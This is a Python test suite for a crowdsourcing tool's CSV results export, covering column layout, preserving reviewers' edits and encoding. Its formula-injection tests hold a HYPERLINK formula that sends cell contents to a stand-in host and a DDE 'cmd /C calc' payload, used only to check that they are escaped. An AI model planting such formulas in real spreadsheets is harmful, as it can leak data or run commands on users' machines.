"""Results as CSV, as the requester site gave them; and the decisions that a person writes into such a file."""

import csv
import io
import json
import re
import tempfile
from contextlib import closing
from datetime import UTC, datetime
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import update

from simpleturk.batch.inputs import csv_reader
from simpleturk.batch.inputs.csv_inputs import Table
from simpleturk.batch.inputs.jsonl import Input
from simpleturk.batch.old_batch import read_old_batch
from simpleturk.batch.results.csv import COLUMNS, ResultsTable, csv_row, merging
from simpleturk.errors import Problem
from simpleturk.marketplace.domain.marketplace import Marketplace
from simpleturk.marketplace.store.schema import assignments
from simpleturk.mturk.models import Assignment
from tests.conftest import Files, Run, do, records

SITE = (
    "HITId,HITTypeId,Title,Description,Keywords,Reward,CreationTime,MaxAssignments,RequesterAnnotation,"
    "AssignmentDurationInSeconds,AutoApprovalDelayInSeconds,Expiration,NumberOfSimilarHITs,LifetimeInSeconds,"
    "AssignmentId,WorkerId,AssignmentStatus,AcceptTime,SubmitTime,AutoApprovalTime,ApprovalTime,RejectionTime,"
    "RequesterFeedback,WorkTimeInSeconds,LifetimeApprovalRate,Last30DaysApprovalRate,Last7DaysApprovalRate"
).split(",")
TIME = r"[A-Z][a-z]{2} [A-Z][a-z]{2} \d\d \d\d:\d\d:\d\d UTC \d{4}"
AWKWARD = 'a "b", c;\nd\te\n<script>x</script> ]]> =1+1 é 🙂'


def rows(text: str, delimiter: str = ",") -> list[dict[str, str]]:
    """A CSV file's rows."""
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=delimiter, strict=True))


def test_columns_are_those_of_the_requester_site(words: list[str], local: Marketplace, run: Run) -> None:
    do(local, words[1], "bob", ("zeta", "1"), ("answer", AWKWARD), ("tag", "a"), ("tag", "b"))
    do(local, words[0], "ann", ("answer", ""))
    result = run("results", "--format", "csv")
    assert result.exit_code == 0
    header = result.stdout.splitlines()[0]
    wanted = [*SITE, "Input.word", "Answer.answer", "Answer.tag", "Answer.zeta", "Approve", "Reject"]
    assert header == "\ufeff" + ",".join(f'"{name}"' for name in wanted).replace('"HITId"', "HITId")
    first, second = rows(result.stdout)
    assert (first["HITId"], first["WorkerId"], first["AssignmentStatus"]) == (words[0], "ann", "Submitted")
    assert (first["Title"], first["Reward"], first["MaxAssignments"]) == ("Describe an image", "$0.10", "2")
    assert first["AssignmentDurationInSeconds"] == "600" and first["AutoApprovalDelayInSeconds"] == "2592000"
    assert first["Description"] == "Look at an image and describe it."
    for name in ("CreationTime", "Expiration", "AcceptTime", "SubmitTime", "AutoApprovalTime"):
        assert re.fullmatch(TIME, first[name]), name
    assert [second[f"Answer.{name}"] for name in ("answer", "tag", "zeta")] == [AWKWARD, "a|b", "1"]
    assert [row["Input.word"] for row in (first, second)] == ["cat", "dog"]
    assert [first[name] for name in ("Answer.zeta", "Approve", "Reject", "ApprovalTime")] == [""] * 4


def test_values_are_written_as_json_and_an_input_that_is_not_an_object_has_one_column(
    batch_files: Files, run: Run, local: Marketplace
) -> None:
    batch_files([{"a": [1, "x"], "b": None, "c": True}, ["x"], "text"], template="<form>{{ input }}<input name=a>")
    run("launch")
    for hit_id in Path("hit_ids.txt").read_text().split():
        do(local, hit_id, "ann")
    found = rows(run("results", "--format", "csv").stdout)
    assert [found[0][f"Input.{name}"] for name in "abc"] == ['[1, "x"]', "", "true"]
    assert [row["Input.input"] for row in found] == ["", '["x"]', "text"]


def test_a_page_that_stores_json_has_it_in_its_column(words: list[str], local: Marketplace, run: Run) -> None:
    do(local, words[0], "ann", ("taskAnswers", '[{"a":1}]'))
    assert rows(run("results", "--format", "csv").stdout)[0]["Answer.taskAnswers"] == '[{"a":1}]'


def test_a_file_named_csv_is_one_and_a_second_run_changes_nothing(
    done: list[str], words: list[str], local: Marketplace, run: Run
) -> None:
    result = run("results", "--output", "r.csv")
    assert result.stderr == "3 new results in r.csv; it holds 3\n"
    before = Path("r.csv").read_bytes()
    assert run("results", "--output", "r.csv").stderr == "0 new results in r.csv; it holds 3\n"
    assert Path("r.csv").read_bytes() == before


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
@pytest.mark.parametrize("end", ["\n", "\r\n"])
def test_a_reviewers_changes_stay_when_new_results_are_added(
    done: list[str], words: list[str], local: Marketplace, run: Run, delimiter: str, end: str
) -> None:
    run("results", "--output", "r.csv")
    table = list(csv.reader(io.StringIO(Path("r.csv").read_text(), newline="")))
    table[0].append("Notes")
    for number, row in enumerate(table[1:]):
        row.append(f"note {number}, é")
    table[1][-3], table[2][-2] = "x", "too short"
    file = io.StringIO(newline="")
    csv.writer(file, delimiter=delimiter, lineterminator=end).writerows(table)
    Path("r.csv").write_text("\ufeff" + file.getvalue(), encoding="utf-8", newline="")
    do(local, words[0], "bob", ("extra", "new"), ("answer", "b"))
    assert run("results", "--output", "r.csv").stderr == "1 new result in r.csv; it holds 4\n"
    found = rows(Path("r.csv").read_text(), delimiter=delimiter)
    assert [row["Notes"] for row in found] == ["note 0, é", "note 1, é", "note 2, é", ""]
    assert [(row["Approve"], row["Reject"]) for row in found] == [("x", ""), ("", "too short"), ("", ""), ("", "")]
    assert [row["Answer.extra"] for row in found] == ["", "", "", "new"]
    assert list(found[0])[-5:] == ["Answer.answer", "Answer.extra", "Approve", "Reject", "Notes"]


@pytest.mark.parametrize(
    ("text", "problem"),
    [
        ('{"assignment_id": "1"}\n', "line 1: has no column AssignmentId"),
        ("AssignmentId,x\nA,1\nB\n", "line 3: has 1 field; the header has 2"),
        ('AssignmentId,x\nA,"1\n', "a quote is not closed"),
        ("AssignmentId,x,x\nA,1,1\n", "line 1: has the column 'x' twice"),
    ],
)
def test_a_file_that_is_not_a_results_file_stays_unchanged(done: list[str], run: Run, text: str, problem: str) -> None:
    Path("r.csv").write_text(text)
    result = run("results", "--output", "r.csv")
    assert (result.exit_code, problem in result.stderr, Path("r.csv").read_text()) == (1, True, text)


def test_csv_is_not_written_into_the_configured_json_lines_file(done: list[str], run: Run) -> None:
    with Path("simpleturk.toml").open("a") as file:
        file.write('output = "r.jsonl"\n')
    assert run("results").exit_code == 0
    assert len(rows(run("results", "--format", "csv").stdout)) == 3
    assert len(records(Path("r.jsonl").read_text())) == 3
    result = run("results", "--format", "csv", "--output", "r.jsonl")
    assert (result.exit_code, "has no column AssignmentId" in result.stderr) == (1, True)


def test_csv_of_all_hits_needs_no_ids_and_following_it_is_refused(done: list[str], run: Run) -> None:
    found = rows(run("results", "--all", "--format", "csv").stdout)
    assert [row["AssignmentId"] for row in found] == done
    assert found[0]["Title"] == "Describe an image"
    assert run("results", "--follow", "--format", "csv").exit_code == 2


def test_an_answer_that_cannot_be_parsed_is_kept_unchanged() -> None:
    assignment = Assignment("A", "H", "ann", "Submitted", "<broken", None, None, None, None, None, None)
    row = csv_row(assignment, None)
    assert row["Answer.answer"] == "<broken"
    assert "problem" in row
    sheet = ResultsTable()
    sheet.add([row])
    assert rows("".join(sheet.text()))[0]["Answer.answer"] == "<broken"
    sheet.close()


# Decisions


def marked(run: Run, *marks: tuple[str, str], delimiter: str = ",", encoding: str = "utf-8") -> None:
    """Fill in Approve and Reject, as in a spreadsheet."""
    run("results", "--output", "r.csv")
    table = list(csv.reader(io.StringIO(Path("r.csv").read_text(), newline="")))
    for row, (approve, reject) in zip(table[1:], marks, strict=True):
        row[-2:] = approve, reject
    file = io.StringIO(newline="")
    csv.writer(file, delimiter=delimiter).writerows(table)
    Path("r.csv").write_text(file.getvalue(), encoding=encoding, newline="")


def states(run: Run) -> list[tuple[str, str | None]]:
    """Each assignment's state and feedback."""
    found = records(run("results", "--status", "submitted", "--status", "approved", "--status", "rejected").stdout)
    return [(record["status"], record.get("feedback")) for record in found]


TEXT = st.text(st.characters(exclude_categories=["Cs"]) | st.sampled_from("'\"=+-@;,\t\r\n|(!\uff1d"), max_size=20)


def table(*answers: dict[str, str], **inputs: str) -> str:
    """The table of these answers."""
    with closing(ResultsTable()) as sheet:
        for number, fields in enumerate(answers):
            row = dict.fromkeys(COLUMNS, "") | {"AssignmentId": str(number), "HITId": "H"} | inputs
            sheet.add([row | {f"Answer.{name}": text for name, text in fields.items()}])
        return "".join(sheet.text())


@given(answers=st.lists(st.dictionaries(TEXT, TEXT, max_size=4), max_size=6))
def test_any_answer_is_read_back_from_its_row(answers: list[dict[str, str]]) -> None:
    found = list(csv_reader.records(io.BytesIO(table(*answers).encode()), "r.csv", "AssignmentId"))
    assert len(found) == len(answers)
    for item, fields in zip(found, answers, strict=True):
        assert not isinstance(item, Problem)
        assert {name: text for name, text in csv_reader.fields_of_row(item[1]) if text} == {
            name: text for name, text in fields.items() if text
        }


@given(text=TEXT, name=TEXT.filter(lambda name: name == name.strip() != ""))
def test_any_input_of_a_results_file_is_read_back_as_an_input(text: str, name: str) -> None:
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "r.csv"
        path.write_bytes(table({"a": "1"}, **{f"Input.{name}": text}).encode())
        [item] = Table(path)
    assert isinstance(item, Input)
    assert item.value == {name: text}


@given(cell=TEXT)
def test_a_row_stays_the_same_whenever_new_rows_are_added(cell: str) -> None:
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "r.csv"
        for number in range(3):
            with merging(path) as sheet:
                row = dict.fromkeys(COLUMNS, "") | {"AssignmentId": str(number), "HITId": "H", "Answer.a": cell}
                sheet.add([row])
        found = list(csv_reader.records(io.BytesIO(path.read_bytes()), "r.csv", "AssignmentId"))
    assert [item[1]["Answer.a"] for item in found if not isinstance(item, Problem)] == [cell] * 3


# Formulas, and answers with thousands of fields

FORMULA = '=HYPERLINK("http://x.example/?"&A1,"ok")'


def test_formulas_in_answers_and_inputs_are_text_and_return_unchanged(
    batch_files: Files, run: Run, local: Marketplace
) -> None:
    batch_files([{"w": "@SUM(1)"}], template="<form>{{ input.w }}<input name=a>")
    run("launch")
    name = "x;=cmd|' /C calc'!A0"
    do(local, Path("hit_ids.txt").read_text().strip(), "ann", ("a", FORMULA), ("n", "-5"), (name, "+1-1"))
    assert run("results", "--output", "r.csv").exit_code == 0
    [row] = rows(Path("r.csv").read_text())
    assert row["Answer.a"] == "'" + FORMULA
    assert (row["Answer.n"], row["Input.w"], row["Answer.x;'=cmd|' /C calc'!A0"]) == ("-5", "'@SUM(1)", "'+1-1")
    batch = read_old_batch(Path("r.csv"), "Approved", datetime.now(UTC))
    [hit] = batch.hits.values()
    assert hit["Assignments"][0]["Fields"] == [["a", FORMULA], ["n", "-5"], [name, "+1-1"]]
    assert batch.inputs == {hit["HITId"]: {"w": "@SUM(1)"}}
    assert [item.value for item in Table(Path("r.csv")).values()] == [{"w": "@SUM(1)"}]


def test_exact_cells_are_what_workers_typed(words: list[str], local: Marketplace, run: Run) -> None:
    do(local, words[0], "ann", ("answer", FORMULA))
    assert rows(run("results", "--format", "csv").stdout)[0]["Answer.answer"] == "'" + FORMULA
    assert rows(run("results", "--format", "csv", "--exact").stdout)[0]["Answer.answer"] == FORMULA


def test_formulas_of_an_older_file_become_text_and_what_the_reviewer_wrote_stays(
    words: list[str], local: Marketplace, run: Run
) -> None:
    do(local, words[0], "ann", ("answer", FORMULA))
    run("results", "--output", "r.csv", "--exact")
    sheet = list(csv.reader(io.StringIO(Path("r.csv").read_text(), newline="")))
    sheet[0].append("Mine")
    sheet[1][-1] = "- too short"
    sheet[1].append("=B2*2")
    file = io.StringIO(newline="")
    csv.writer(file).writerows(sheet)
    Path("r.csv").write_text(file.getvalue(), newline="")
    do(local, words[1], "bob", ("answer", "b"))
    run("results", "--output", "r.csv")
    first = rows(Path("r.csv").read_text())[0]
    assert (first["Answer.answer"], first["Reject"], first["Mine"]) == ("'" + FORMULA, "- too short", "=B2*2")


def test_thousands_of_fields_in_one_answer_share_a_column(words: list[str], local: Marketplace, run: Run) -> None:
    do(local, words[0], "ann", ("answer", "a"), ("tag", "t"))
    do(local, words[1], "bob", ("answer", "b"), ("tag", "u"))
    # Amazon's marketplace and others may send what this one refuses.
    many = [(f"f{number}", "=1+1") for number in range(19_000)]
    with local.write() as transaction:
        fields = [["answer", "c"], ["tag", "v"], *map(list, many)]
        which = assignments.c.worker_id == "bob"
        transaction.execute(update(assignments).where(which).values(fields=fields))
    assert run("results", "--output", "r.csv").exit_code == 0
    first, second = rows(Path("r.csv").read_text())
    assert list(first)[len(COLUMNS) + 1 :] == ["Answer.answer", "Answer.tag", "OtherAnswers", "Approve", "Reject"]
    assert (first["OtherAnswers"], json.loads(second["OtherAnswers"])) == ("", dict(many))
    batch = read_old_batch(Path("r.csv"), "Approved", datetime.now(UTC))
    assert batch.hits[words[1]]["Assignments"][0]["Fields"] == fields
    do(local, words[0], "cora", ("answer", "d"))
    run("results", "--output", "r.csv")
    assert [row["Answer.answer"] for row in rows(Path("r.csv").read_text())] == ["a", "c", "d"]
    assert run("approve", "--assignments", "r.csv").exit_code == 0


def test_a_new_file_named_tsv_has_tabs(done: list[str], run: Run) -> None:
    assert run("results", "--output", "r.tsv").stderr == "3 new results in r.tsv; it holds 3\n"
    assert run("results", "--output", "r.tsv").stderr == "0 new results in r.tsv; it holds 3\n"
    assert len(rows(Path("r.tsv").read_text(), delimiter="\t")) == 3


# What a person has in the file


def test_another_kind_of_file_is_not_an_empty_results_file(done: list[str], run: Run) -> None:
    Path("diary.csv").write_text("\nmy diary,1\n")
    result = run("results", "--output", "diary.csv")
    assert (result.exit_code, Path("diary.csv").read_text()) == (1, "\nmy diary,1\n")


@pytest.mark.parametrize("blank", ["\n", ",,,\n", '"",""\n', " \n"])
def test_empty_rows_above_the_header_do_no_harm(
    done: list[str], words: list[str], local: Marketplace, run: Run, blank: str
) -> None:
    marked(run, ("x", ""), ("", "why"), ("", ""))
    Path("r.csv").write_text(blank + Path("r.csv").read_text())
    do(local, words[0], "bob")
    assert "1 new result in r.csv; it holds 4" in run("results", "--output", "r.csv").stderr
    assert [(row["Approve"], row["Reject"]) for row in rows(Path("r.csv").read_text())][:2] == [("x", ""), ("", "why")]


def test_the_users_own_rows_and_columns_stay(done: list[str], words: list[str], local: Marketplace, run: Run) -> None:
    run("results", "--output", "r.csv")
    table = list(csv.reader(io.StringIO(Path("r.csv").read_text(), newline="")))
    table[0] += ["problem", "", ""]
    for number, row in enumerate(table[1:]):
        row += [f"p{number}", "a", f"b{number}"]
    second = [*table[1]]
    second[-5] = "x"
    table += [second, ["total"] + [""] * (len(second) - 2) + ["3"], ["note"] + [""] * (len(second) - 1)]
    file = io.StringIO(newline="")
    csv.writer(file).writerows(table)
    Path("r.csv").write_text(file.getvalue(), newline="")
    do(local, words[0], "bob")
    assert "1 new result in r.csv; it holds 4" in run("results", "--output", "r.csv").stderr
    found = list(csv.reader(io.StringIO(Path("r.csv").read_text(), newline="")))
    assert found[0][-3:] == ["problem", "", ""]
    assert [row[-3:] for row in found[1:5]] == [
        ["p0", "a", "b0"],
        ["p1", "a", "b1"],
        ["p2", "a", "b2"],
        ["p0", "a", "b0"],
    ]
    assert [row[0] for row in found[5:7]] == ["total", "note"]
    assert found[5][-1] == "3"
    assert rows(Path("r.csv").read_text())[3]["Approve"] == "x"
    assert run("approve", "--assignments", "r.csv").exit_code == 1


def test_a_file_saved_during_the_fetch_is_not_overwritten(
    done: list[str], words: list[str], local: Marketplace, run: Run, monkeypatch: pytest.MonkeyPatch
) -> None:
    from simpleturk.client.client import MTurk

    run("results", "--output", "r.csv")
    do(local, words[0], "bob")
    list_ = MTurk.assignments

    def saved_meanwhile(self: MTurk, *arguments: object) -> object:
        text = Path("r.csv").read_text().replace('"",""\n', '"x",""\n')
        Path("new").write_text(text)
        Path("new").replace("r.csv")
        return list_(self, *arguments)  # type: ignore[arg-type]

    monkeypatch.setattr(MTurk, "assignments", saved_meanwhile)
    result = run("results", "--output", "r.csv")
    assert (result.exit_code, "has just been saved by another program" in result.stderr) == (1, True)
    assert [row["Approve"] for row in rows(Path("r.csv").read_text())] == ["x", "x", "x"]


def test_a_link_and_the_permissions_of_the_file_stay(done: list[str], run: Run) -> None:
    Path("real.csv").write_text("")
    Path("real.csv").chmod(0o600)
    Path("link.csv").symlink_to("real.csv")
    run("results", "--output", "link.csv")
    assert Path("link.csv").is_symlink()
    assert len(rows(Path("real.csv").read_text())) == 3
    assert Path("real.csv").stat().st_mode & 0o777 == 0o600


def test_inputs_whose_names_differ_only_in_blanks_are_read_back(
    batch_files: Files, run: Run, local: Marketplace
) -> None:
    batch_files([{"d": "1", "d ": "2"}], template="<form>{{ input }}<input name=a>")
    run("launch")
    do(local, Path("hit_ids.txt").read_text().strip(), "ann")
    run("results", "--output", "r.csv")
    assert run("results", "--output", "r.csv").exit_code == 0


def test_half_a_character_is_replaced(batch_files: Files, run: Run, local: Marketplace) -> None:
    batch_files('{"d": "\\ud800"}\n', template="<form>{{ input }}<input name=a>")
    assert run("launch").exit_code == 0
    do(local, Path("hit_ids.txt").read_text().strip(), "ann")
    assert rows(run("results", "--format", "csv").stdout)[0]["Input.d"] == "\ufffd"


def test_excel_reads_the_file_as_utf_8_and_every_command_reads_it_back(
    batch_files: Files, run: Run, local: Marketplace
) -> None:
    batch_files([{"word": "né"}])
    run("launch")
    [hit_id] = Path("hit_ids.txt").read_text().split()
    do(local, hit_id, "ann", ("answer", "日本"))
    run("results", "--output", "r.csv")
    data = Path("r.csv").read_bytes()
    assert data.startswith(b"\xef\xbb\xbfHITId,") and data.count(b"\xef\xbb\xbf") == 1
    do(local, hit_id, "bob", ("answer", "ü"))
    # A program that takes the mark for text writes it back as a part of the first name.
    Path("r.csv").write_text(data.decode("utf-8").replace("\ufeffHITId", '"\ufeffHITId"', 1), encoding="utf-8")
    assert "1 new result in r.csv; it holds 2" in run("results", "--output", "r.csv").stderr
    assert [row["HITId"] for row in rows(Path("r.csv").read_text(encoding="utf-8-sig"))] == [hit_id] * 2
    assert run("progress", "--ids", "r.csv").exit_code == 0
    assert [item.value for item in Table(Path("r.csv")).values()] == [{"word": "né"}]
    plain = run("results", "--format", "csv", "--exact").stdout
    assert plain.startswith('"HITId",') and "日本" in plain
